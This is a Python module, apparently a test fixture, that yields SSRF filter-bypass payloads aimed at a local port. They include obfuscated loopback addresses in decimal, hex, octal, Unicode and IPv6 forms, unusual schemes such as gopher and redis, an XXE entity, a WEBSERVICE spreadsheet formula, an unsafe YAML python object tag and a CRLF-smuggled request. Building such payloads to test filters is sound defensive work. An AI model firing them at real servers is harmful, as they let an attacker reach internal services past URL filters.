"""Addresses of a server inside, in the forms that a filter, a parser and a resolver may understand differently."""

from __future__ import annotations

from collections.abc import Iterator

SCHEMES = ("http", "https", "HTTP", "ftp", "gopher", "dict", "ldap", "ws", "tcp", "redis", "sftp", "jar:http")
HOSTS = (
    "127.0.0.1",
    "localhost",
    "LOCALHOST.",
    "127.1",
    "127.0.1",
    "2130706433",
    "0x7f000001",
    "0x7f.0.0.1",
    "0177.0.0.1",
    "017700000001",
    "0.0.0.0",  # noqa: S104
    "0",
    "127.0.0.1.",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "\uff11\uff12\uff17.0.0.1",
    "\u2460\u2461\u2466.0.0.1",
    "elsewhere.example@127.0.0.1",
    "127.0.0.1%00.elsewhere.example",
    "127.0.0.1\t",
)


def inner_addresses(port: int) -> Iterator[str]:
    """Give addresses that all lead to this port of the own host, if anybody follows them."""
    yield from (f"{scheme}://127.0.0.1:{port}/inner" for scheme in SCHEMES)
    yield from (f"http://{host}:{port}/inner" for host in HOSTS)
    yield from (f"//127.0.0.1:{port}/inner", f"\\\\127.0.0.1@{port}\\inner", f"127.0.0.1:{port}", f":{port}/inner")
    yield from (f"http:127.0.0.1:{port}/inner", f"http:///127.0.0.1:{port}/inner", f"url:http://127.0.0.1:{port}/")
    yield from (f"http://127.0.0.1:{port}#@elsewhere.example/", f"http://127.0.0.1:{port}\\@elsewhere.example/")
    yield f'<!DOCTYPE a [<!ENTITY b SYSTEM "http://127.0.0.1:{port}/inner">]><a>&b;</a>'
    yield f'=WEBSERVICE("http://127.0.0.1:{port}/inner")'
    yield f"!!python/object/apply:urllib.request.urlopen ['http://127.0.0.1:{port}/inner']"
    yield f"x\r\nHost: 127.0.0.1:{port}\r\n\r\nGET http://127.0.0.1:{port}/inner HTTP/1.1\r\n\r\n"
